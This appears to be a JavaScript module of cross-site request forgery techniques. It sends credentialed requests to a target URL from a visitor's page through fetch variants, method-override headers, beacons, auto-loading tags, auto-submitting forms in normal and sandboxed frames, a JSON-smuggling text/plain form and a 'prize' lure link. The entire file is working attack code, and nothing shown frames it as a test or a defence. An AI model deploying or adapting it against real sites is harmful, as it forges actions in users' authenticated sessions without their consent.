// What a page can send elsewhere with its visitor's cookies. Each function runs inside the page, and knows nothing from here.

/** `fetch` in every mode, with every body that needs no leave and one that does; beacons. Answers what it could read. */
export async function byScript({ url, method, body }) {
  const json = JSON.stringify(body);
  const form = new URLSearchParams(body);
  const parts = new FormData();
  for (const [name, value] of Object.entries(body)) parts.append(name, value);
  const readable = [];
  const requests = [];
  const methods = new Set([method, "POST"]);
  for (const method of methods) {
    for (const mode of ["no-cors", "cors"]) {
      for (const body of [undefined, json, form, parts, new Blob([json], { type: "text/plain" })]) {
        requests.push({ method, mode, body });
      }
      requests.push({ method, mode, body: json, headers: { "content-type": "application/json" } });
      requests.push({ method: "POST", mode, body: json, headers: { "x-http-method-override": method } });
    }
  }
  const send = async (options) => {
    for (const at of [url, `${url}?_method=${method}`]) {
      const answer = await fetch(at, { ...options, credentials: "include" }).catch(() => null);
      if (answer && answer.type !== "opaque") readable.push(`${options.method} ${at} ${answer.status}`);
    }
  };
  await Promise.all(requests.map(send));
  for (const body of [form, parts, json, new Blob([json], { type: "application/json" })]) navigator.sendBeacon(url, body);
  return readable;
}

/** What loads by itself: images, scripts, styles, frames, prefetched links. All are GET. */
export async function byTag({ url }) {
  const make = (tag, members) => Object.assign(document.createElement(tag), members);
  const put = (element) =>
    new Promise((resolve) => {
      element.onload = element.onerror = resolve;
      document.body.append(element);
    });
  document.body.append(
    make("iframe", { src: url }),
    make("object", { data: url }),
    make("link", { rel: "prefetch", href: `${url}?prefetch` }),
  );
  const elements = [make("img", { src: url }), make("script", { src: url }), make("link", { rel: "stylesheet", href: url })];
  await Promise.all(elements.map(put));
}

/** A form in a frame, and one in a sandboxed frame, whose origin is "null". What comes of them the page cannot see. */
export function byFrame({ url, method, body }) {
  const escape = (text) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  const input = ([name, value]) => `<input name="${escape(name)}" value="${escape(`${value}`)}">`;
  const inputs = [...Object.entries(body), ["_method", method]].map(input).join("");
  for (const sandbox of [null, "allow-forms allow-scripts"]) {
    for (const type of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
      const frame = document.createElement("iframe");
      if (sandbox) frame.sandbox = sandbox;
      frame.srcdoc = `<form method="post" enctype="${type}" action="${url}">${inputs}</form><script>document.forms[0].submit()</script>`;
      document.body.append(frame);
    }
  }
}

/** A form, or a link, that takes the whole tab along. Text that a form cannot send as JSON it sends as plain text. */
export function byForm({ url, body }, type) {
  const make = (tag, members) => Object.assign(document.createElement(tag), members);
  if (type === "link") {
    const link = make("a", { href: url, textContent: "a prize" });
    document.body.append(link);
    link.click();
    return;
  }
  const form = make("form", { method: "post", action: url, enctype: type });
  const json = JSON.stringify({ ...body, _: "" });
  const fields = type === "text/plain" ? [[json.slice(0, -2), '"}']] : Object.entries(body);
  for (const [name, value] of fields) form.append(make("input", { name, value }));
  document.body.append(form);
  form.submit();
}
